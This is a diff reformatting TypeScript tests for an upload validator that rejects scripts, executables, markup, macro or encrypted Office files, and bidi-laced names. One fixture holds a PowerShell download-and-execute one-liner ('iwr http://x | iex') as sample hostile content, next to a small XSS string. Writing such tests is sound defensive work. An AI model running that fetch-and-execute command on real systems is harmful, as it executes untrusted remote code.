@@ -27,11 +27,28 @@ const reasonOf = (d: Detection) => (d.ok ? `accepted as ${d.type.mime}` : d.reas
 
 const SCRIPT = Buffer.from('powershell -c "iwr http://x | iex"\r\n');
 const JPEG = Buffer.concat([Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"), Buffer.alloc(200, 0x11)]);
-const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
+  "base64",
+);
 /** An ISO media file with the given major brand, then filler. */
-const isoMedia = (brand: string) => Buffer.concat([Buffer.from("00000018667479", "hex"), Buffer.from(`p${brand}`, "latin1"), Buffer.from("00000200", "hex"), Buffer.from("isomiso2"), Buffer.alloc(4096, 7)]);
+const isoMedia = (brand: string) =>
+  Buffer.concat([
+    Buffer.from("00000018667479", "hex"),
+    Buffer.from(`p${brand}`, "latin1"),
+    Buffer.from("00000200", "hex"),
+    Buffer.from("isomiso2"),
+    Buffer.alloc(4096, 7),
+  ]);
 /** An Ogg page whose first packet is an Opus header. */
-const OPUS = Buffer.concat([Buffer.from("OggS"), Buffer.from([0, 2]), Buffer.alloc(20), Buffer.from([1, 19]), Buffer.from("OpusHead"), Buffer.alloc(200, 1)]);
+const OPUS = Buffer.concat([
+  Buffer.from("OggS"),
+  Buffer.from([0, 2]),
+  Buffer.alloc(20),
+  Buffer.from([1, 19]),
+  Buffer.from("OpusHead"),
+  Buffer.alloc(200, 1),
+]);
 
 describe("plain text under a script's name", () => {
   it("is still detected as text, but refused once the name is known", async () => {
@@ -41,19 +58,31 @@ describe("plain text under a script's name", () => {
     );
   });
 
-  it.each([["notes.txt"], ["NOTES.TXT"], ["call log.log"], ["README.md"], ["notes"]])("accepts text called %s", async (name) => {
-    expect(mimeOf(await detectBuffer(Buffer.from("Called the customer back about their bill.\n"), name))).toBe("text/plain");
-  });
+  it.each([["notes.txt"], ["NOTES.TXT"], ["call log.log"], ["README.md"], ["notes"]])(
+    "accepts text called %s",
+    async (name) => {
+      expect(mimeOf(await detectBuffer(Buffer.from("Called the customer back about their bill.\n"), name))).toBe(
+        "text/plain",
+      );
+    },
+  );
 
-  it.each([["fix.bat"], ["fix.ps1"], ["fix.sh"], ["fix.js"], ["fix.vbs"], ["data.csv"], ["fix.cmd."], ["fix.CMD"]])("refuses text called %s", async (name) => {
-    expect(reasonOf(await detectBuffer(SCRIPT, name))).toMatch(/^The file is called .*, but its content is plain text/);
-  });
+  it.each([["fix.bat"], ["fix.ps1"], ["fix.sh"], ["fix.js"], ["fix.vbs"], ["data.csv"], ["fix.cmd."], ["fix.CMD"]])(
+    "refuses text called %s",
+    async (name) => {
+      expect(reasonOf(await detectBuffer(SCRIPT, name))).toMatch(
+        /^The file is called .*, but its content is plain text/,
+      );
+    },
+  );
 
   it("refuses it from a stored file too (detectFile)", async () => {
     const dir = await mkdtemp(path.join(tmpdir(), "types-"));
     try {
       await writeFile(path.join(dir, "upload"), SCRIPT);
-      expect(reasonOf(await detectFile(path.join(dir, "upload"), "fix.cmd"))).toContain("only .txt, .text, .log or .md names");
+      expect(reasonOf(await detectFile(path.join(dir, "upload"), "fix.cmd"))).toContain(
+        "only .txt, .text, .log or .md names",
+      );
       expect(mimeOf(await detectFile(path.join(dir, "upload"), "fix.txt"))).toBe("text/plain");
       expect(mimeOf(await detectFile(path.join(dir, "upload")))).toBe("text/plain");
     } finally {
@@ -84,10 +113,26 @@ describe("a name's extension must fit the content", () => {
   });
 
   it.each([
-    ["photo.exe", JPEG, "The file is called photo.exe, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo."],
-    ["photo.png", JPEG, "The file is called photo.png, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo."],
-    ["photo.jpg", PNG, "The file is called photo.jpg, but its content is a PNG image: only .png names are accepted for a PNG image."],
-    ["clip.mkv", isoMedia("isom"), "The file is called clip.mkv, but its content is an MP4 video: only .mp4, .m4v, .mov, .m4a or .m4b names are accepted for an MP4 video."],
+    [
+      "photo.exe",
+      JPEG,
+      "The file is called photo.exe, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo.",
+    ],
+    [
+      "photo.png",
+      JPEG,
+      "The file is called photo.png, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo.",
+    ],
+    [
+      "photo.jpg",
+      PNG,
+      "The file is called photo.jpg, but its content is a PNG image: only .png names are accepted for a PNG image.",
+    ],
+    [
+      "clip.mkv",
+      isoMedia("isom"),
+      "The file is called clip.mkv, but its content is an MP4 video: only .mp4, .m4v, .mov, .m4a or .m4b names are accepted for an MP4 video.",
+    ],
   ])("refuses %s with a reason naming the type and the extension", async (name, bytes, reason) => {
     expect(reasonOf(await detectBuffer(bytes, name))).toBe(reason);
   });
@@ -101,19 +146,47 @@ describe("a name's extension must fit the content", () => {
   });
 
   it("keeps refusing markup and programs by content first", async () => {
-    expect(reasonOf(await detectBuffer(Buffer.from("<!DOCTYPE html><script>alert(1)</script>"), "page.txt"))).toContain("web page or script markup");
-    expect(reasonOf(await detectBuffer(Buffer.concat([Buffer.from("MZ"), Buffer.alloc(2000, 3)]), "setup.pdf"))).toContain("cannot be used as evidence");
+    expect(reasonOf(await detectBuffer(Buffer.from("<!DOCTYPE html><script>alert(1)</script>"), "page.txt"))).toContain(
+      "web page or script markup",
+    );
+    expect(
+      reasonOf(await detectBuffer(Buffer.concat([Buffer.from("MZ"), Buffer.alloc(2000, 3)]), "setup.pdf")),
+    ).toContain("cannot be used as evidence");
   });
 });
 
 describe("extensionProblem, before any bytes are uploaded", () => {
-  it.each([["fix.cmd"], ["setup.exe"], ["page.html"], ["x.svg"], ["run.ps1"], ["data.csv"], ["installer.msi"], ["message.msg"], ["fix.cmd."]])("refuses %s", (name) => {
-    expect(extensionProblem(name)).toMatch(/^The file is called .*, and \.\w+ files cannot be used as evidence\. Accepted: /);
+  it.each([
+    ["fix.cmd"],
+    ["setup.exe"],
+    ["page.html"],
+    ["x.svg"],
+    ["run.ps1"],
+    ["data.csv"],
+    ["installer.msi"],
+    ["message.msg"],
+    ["fix.cmd."],
+  ])("refuses %s", (name) => {
+    expect(extensionProblem(name)).toMatch(
+      /^The file is called .*, and \.\w+ files cannot be used as evidence\. Accepted: /,
+    );
   });
   it("names the extension and what is accepted", () => {
-    expect(extensionProblem("setup.exe")).toBe(`The file is called setup.exe, and .exe files cannot be used as evidence. Accepted: ${ALLOWED_DESCRIPTION}.`);
+    expect(extensionProblem("setup.exe")).toBe(
+      `The file is called setup.exe, and .exe files cannot be used as evidence. Accepted: ${ALLOWED_DESCRIPTION}.`,
+    );
   });
-  it.each([["report.pdf"], ["IMG_0042.HEIC"], ["notes"], ["voice.opus"], ["minutes.doc"], ["budget.xls"], ["talk.ppt"], ["clip.webm"], ["film.mkv"]])("lets %s start", (name) => {
+  it.each([
+    ["report.pdf"],
+    ["IMG_0042.HEIC"],
+    ["notes"],
+    ["voice.opus"],
+    ["minutes.doc"],
+    ["budget.xls"],
+    ["talk.ppt"],
+    ["clip.webm"],
+    ["film.mkv"],
+  ])("lets %s start", (name) => {
     expect(extensionProblem(name)).toBeNull();
   });
 });
@@ -161,9 +234,12 @@ describe("file names", () => {
   ])("refuses %j", (name, reason) => {
     expect(fileNameProblem(name)).toContain(reason);
   });
-  it.each([["notes.txt"], ["Café menu (final).pdf"], ["📷 photo.jpg"], ["Minutes 3.4.2025.docx"], ["notes"]])("accepts %j", (name) => {
-    expect(fileNameProblem(name)).toBeNull();
-  });
+  it.each([["notes.txt"], ["Café menu (final).pdf"], ["📷 photo.jpg"], ["Minutes 3.4.2025.docx"], ["notes"]])(
+    "accepts %j",
+    (name) => {
+      expect(fileNameProblem(name)).toBeNull();
+    },
+  );
 });
 
 describe("displayTextProblem and the forms that use it", () => {
@@ -173,7 +249,9 @@ describe("displayTextProblem and the forms that use it", () => {
       "Names cannot contain hidden characters that change the direction of text (here U+202E), because they can make text look like something else.",
     );
     expect(displayTextProblem("First line\r\nSecond\tline", { multiline: true })).toBeNull();
-    expect(displayTextProblem("First line\nSecond", { subject: "Titles" })).toBe("Titles cannot contain control characters, tabs or line breaks (here U+000A).");
+    expect(displayTextProblem("First line\nSecond", { subject: "Titles" })).toBe(
+      "Titles cannot contain control characters, tabs or line breaks (here U+000A).",
+    );
     expect(displayTextProblem("Ring\u0007", { multiline: true, subject: "Descriptions" })).toBe(
       "Descriptions cannot contain control characters other than tabs and line breaks (here U+0007).",
     );
@@ -182,20 +260,34 @@ describe("displayTextProblem and the forms that use it", () => {
   });
 
   it("refuses a bidi-laced person's name", () => {
-    const result = createUserSchema.safeParse({ name: "Jane \u202Eeod", email: "jane@example.com", password: "long enough password", roles: ["ASSESSOR"] });
+    const result = createUserSchema.safeParse({
+      name: "Jane \u202Eeod",
+      email: "jane@example.com",
+      password: "long enough password",
+      roles: ["ASSESSOR"],
+    });
     expect(result.success).toBe(false);
     const name = result.error!.issues.filter((i) => i.path[0] === "name").map((i) => i.message);
     expect(name).toEqual([expect.stringContaining("change the direction of text")]);
   });
 
   it("refuses a bidi-laced title and a description with control characters, keeping line breaks", () => {
-    const base = { title: "Call log", description: "Line one\r\nLine two\twith a tab", activityDate: "2020-01-01", method: "PRODUCT" };
+    const base = {
+      title: "Call log",
+      description: "Line one\r\nLine two\twith a tab",
+      activityDate: "2020-01-01",
+      method: "PRODUCT",
+    };
     expect(evidenceDetailsSchema.safeParse(base).success).toBe(true);
     const bad = evidenceDetailsSchema.safeParse({ ...base, title: "Call \u2067log", description: "Bell\u0007" });
     expect(bad.success).toBe(false);
     const messages = Object.fromEntries(bad.error!.issues.map((i) => [String(i.path[0]), i.message]));
-    expect(messages.title).toContain("Titles cannot contain hidden characters that change the direction of text (here U+2067)");
-    expect(messages.description).toBe("Descriptions cannot contain control characters other than tabs and line breaks (here U+0007).");
+    expect(messages.title).toContain(
+      "Titles cannot contain hidden characters that change the direction of text (here U+2067)",
+    );
+    expect(messages.description).toBe(
+      "Descriptions cannot contain control characters other than tabs and line breaks (here U+0007).",
+    );
   });
 });
 
@@ -218,8 +310,13 @@ const biff = (type: number, data: Buffer) => {
   return Buffer.concat([head, data]);
 };
 /** BoundSheet8: position, visibility, sheet type, then a one-byte-per-character name. */
-const boundSheet = (sheetType: number, name: string) => biff(0x0085, Buffer.concat([Buffer.alloc(4), Buffer.from([0, sheetType, name.length, 0]), Buffer.from(name, "latin1")]));
-const workbook = (...sheets: Buffer[]) => Buffer.concat([biff(0x0809, Buffer.alloc(16)), ...sheets, biff(0x000a, Buffer.alloc(0))]);
+const boundSheet = (sheetType: number, name: string) =>
+  biff(
+    0x0085,
+    Buffer.concat([Buffer.alloc(4), Buffer.from([0, sheetType, name.length, 0]), Buffer.from(name, "latin1")]),
+  );
+const workbook = (...sheets: Buffer[]) =>
+  Buffer.concat([biff(0x0809, Buffer.alloc(16)), ...sheets, biff(0x000a, Buffer.alloc(0))]);
 
 /** A PowerPoint record: version and instance, type, length, data. */
 const pptRecord = (version: number, type: number, data: Buffer) => {
@@ -236,7 +333,8 @@ const vbaInfo = (hasMacros: number) => {
   atom.writeUInt32LE(2, 8);
   return pptRecord(0x0f, 0x03ff, pptRecord(0x02, 0x0400, atom));
 };
-const presentation = (...children: Buffer[]) => padded(pptRecord(0x0f, 0x03e8, Buffer.concat([pptRecord(0x01, 0x03e9, Buffer.alloc(40)), ...children])), 8192);
+const presentation = (...children: Buffer[]) =>
+  padded(pptRecord(0x0f, 0x03e8, Buffer.concat([pptRecord(0x01, 0x03e9, Buffer.alloc(40)), ...children])), 8192);
 const currentUser = (token: number) => {
   const atom = Buffer.alloc(20);
   atom.writeUInt32LE(0x14, 0);
@@ -249,12 +347,24 @@ const SUMMARY = { "/\u0005SummaryInformation": Buffer.alloc(200, 1) };
 
 describe("older Office files", () => {
   it.each([
-    ["minutes.doc", { "/WordDocument": WORD_STREAM, "/1Table": Buffer.alloc(300, 2), ...SUMMARY }, "application/msword"],
+    [
+      "minutes.doc",
+      { "/WordDocument": WORD_STREAM, "/1Table": Buffer.alloc(300, 2), ...SUMMARY },
+      "application/msword",
+    ],
     ["template.dot", { "/WordDocument": Buffer.alloc(100, 1), "/0Table": Buffer.alloc(100, 2) }, "application/msword"],
-    ["budget.xls", { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(2, "Chart1")), 5000), ...SUMMARY }, "application/vnd.ms-excel"],
+    [
+      "budget.xls",
+      { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(2, "Chart1")), 5000), ...SUMMARY },
+      "application/vnd.ms-excel",
+    ],
     ["small.xls", { "/Workbook": workbook(boundSheet(0, "Sheet1")) }, "application/vnd.ms-excel"],
     ["old.xls", { "/Book": workbook(boundSheet(0, "Sheet1")) }, "application/vnd.ms-excel"],
-    ["talk.ppt", { "/PowerPoint Document": presentation(vbaInfo(0)), "/Current User": currentUser(0xe391c05f), ...SUMMARY }, "application/vnd.ms-powerpoint"],
+    [
+      "talk.ppt",
+      { "/PowerPoint Document": presentation(vbaInfo(0)), "/Current User": currentUser(0xe391c05f), ...SUMMARY },
+      "application/vnd.ms-powerpoint",
+    ],
   ])("accepts a real one, %s, under its own type", async (name, streams, mime) => {
     const file = compoundFile(streams);
     expect(mimeOf(await detectBuffer(file))).toBe(mime);
@@ -270,21 +380,65 @@ describe("older Office files", () => {
   });
 
   it.each([
-    ["an Outlook message", { "/__substg1.0_0037001F": Buffer.from("S\0u\0b\0"), "/__substg1.0_1000001F": Buffer.alloc(64, 1), "/__properties_version1.0": Buffer.alloc(32) }, "The file is an Outlook message"],
+    [
+      "an Outlook message",
+      {
+        "/__substg1.0_0037001F": Buffer.from("S\0u\0b\0"),
+        "/__substg1.0_1000001F": Buffer.alloc(64, 1),
+        "/__properties_version1.0": Buffer.alloc(32),
+      },
+      "The file is an Outlook message",
+    ],
     [
       "a Windows Installer package",
-      { "/\u4840\u3F3F\u4577\u446C\u3E6A\u44B2\u482F": Buffer.alloc(64, 1), "/\u4840\u3B3F\u4577\u446C\u3B6A\u45E4\u4824": Buffer.alloc(64, 2), ...SUMMARY },
+      {
+        "/\u4840\u3F3F\u4577\u446C\u3E6A\u44B2\u482F": Buffer.alloc(64, 1),
+        "/\u4840\u3B3F\u4577\u446C\u3B6A\u45E4\u4824": Buffer.alloc(64, 2),
+        ...SUMMARY,
+      },
       "The file is a Windows Installer package",
     ],
     ["another compound file", { "/Contents": Buffer.alloc(64, 1) }, "not a Word, Excel or PowerPoint 97-2003 document"],
-    ["an encrypted .docx", { "/EncryptionInfo": Buffer.alloc(64, 1), "/EncryptedPackage": Buffer.alloc(5000, 2) }, "password-protected Office document"],
-    ["a Word document with macros", { "/WordDocument": WORD_STREAM, "/Macros/VBA/dir": Buffer.alloc(64, 1), "/Macros/PROJECT": Buffer.alloc(64, 1) }, "a Word 97-2003 document that contains macros"],
-    ["an Excel workbook with VBA", { "/Workbook": workbook(boundSheet(0, "Sheet1")), "/_VBA_PROJECT_CUR/VBA/dir": Buffer.alloc(64, 1) }, "an Excel 97-2003 workbook that contains macros"],
-    ["an Excel 4.0 macro sheet", { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(1, "Macro1")), 5000) }, "an Excel 97-2003 workbook that contains macros"],
-    ["a password-protected workbook", { "/Workbook": workbook(biff(0x002f, Buffer.alloc(54)), boundSheet(0, "Sheet1")) }, "password-protected Excel 97-2003 workbook"],
-    ["a PowerPoint presentation with VBA", { "/PowerPoint Document": presentation(vbaInfo(1)) }, "a PowerPoint 97-2003 presentation that contains macros"],
-    ["an encrypted presentation", { "/PowerPoint Document": presentation(), "/Current User": currentUser(0xf3d1c4df) }, "password-protected PowerPoint 97-2003 presentation"],
-    ["a document with an embedded VBA project", { "/WordDocument": WORD_STREAM, "/ObjectPool/_1234/VBA/dir": Buffer.alloc(64, 1) }, "contains macros"],
+    [
+      "an encrypted .docx",
+      { "/EncryptionInfo": Buffer.alloc(64, 1), "/EncryptedPackage": Buffer.alloc(5000, 2) },
+      "password-protected Office document",
+    ],
+    [
+      "a Word document with macros",
+      { "/WordDocument": WORD_STREAM, "/Macros/VBA/dir": Buffer.alloc(64, 1), "/Macros/PROJECT": Buffer.alloc(64, 1) },
+      "a Word 97-2003 document that contains macros",
+    ],
+    [
+      "an Excel workbook with VBA",
+      { "/Workbook": workbook(boundSheet(0, "Sheet1")), "/_VBA_PROJECT_CUR/VBA/dir": Buffer.alloc(64, 1) },
+      "an Excel 97-2003 workbook that contains macros",
+    ],
+    [
+      "an Excel 4.0 macro sheet",
+      { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(1, "Macro1")), 5000) },
+      "an Excel 97-2003 workbook that contains macros",
+    ],
+    [
+      "a password-protected workbook",
+      { "/Workbook": workbook(biff(0x002f, Buffer.alloc(54)), boundSheet(0, "Sheet1")) },
+      "password-protected Excel 97-2003 workbook",
+    ],
+    [
+      "a PowerPoint presentation with VBA",
+      { "/PowerPoint Document": presentation(vbaInfo(1)) },
+      "a PowerPoint 97-2003 presentation that contains macros",
+    ],
+    [
+      "an encrypted presentation",
+      { "/PowerPoint Document": presentation(), "/Current User": currentUser(0xf3d1c4df) },
+      "password-protected PowerPoint 97-2003 presentation",
+    ],
+    [
+      "a document with an embedded VBA project",
+      { "/WordDocument": WORD_STREAM, "/ObjectPool/_1234/VBA/dir": Buffer.alloc(64, 1) },
+      "contains macros",
+    ],
   ])("refuses %s", async (_, streams, reason) => {
     expect(reasonOf(await detectBuffer(compoundFile(streams), "minutes.doc"))).toContain(reason);
   });
